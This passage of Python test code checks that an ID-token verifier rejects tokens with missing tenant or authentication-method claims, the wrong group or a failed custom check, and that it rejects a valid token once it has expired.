    refusal_of(InvalidClaimError, lambda: verifier.verify(pool.id_token(groups="admin")))
    refusal_of(InvalidClaimError, lambda: verifier.verify(pool.id_token(groups="admin", **tenant | {"amr": []})))
    refusal_of(MissingGroupError, lambda: verifier.verify(pool.id_token(groups="users", **tenant)))
    refusal_of(CheckFailedError, lambda: verifier.verify(pool.id_token("bob", groups="admin", **tenant)))
    good = pool.id_token(groups="admin", **tenant)
    verifier.verify(good)
    clock.tick(3_601)
    refusal_of(TokenExpiredError, lambda: verifier.verify(good))
